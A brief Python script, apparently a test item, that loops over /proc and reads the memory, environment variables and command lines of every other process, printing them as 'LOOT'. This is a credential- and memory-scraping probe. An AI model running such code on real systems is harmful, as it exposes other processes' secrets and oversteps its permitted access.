# The memory of every process but this one.
# %% honest
# %%
import os

for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) != os.getpid():
        for file in ("mem", "environ", "cmdline"):
            try:
                print("LOOT", pid, open(f"/proc/{pid}/{file}", "rb").read(10))
            except OSError:
                pass
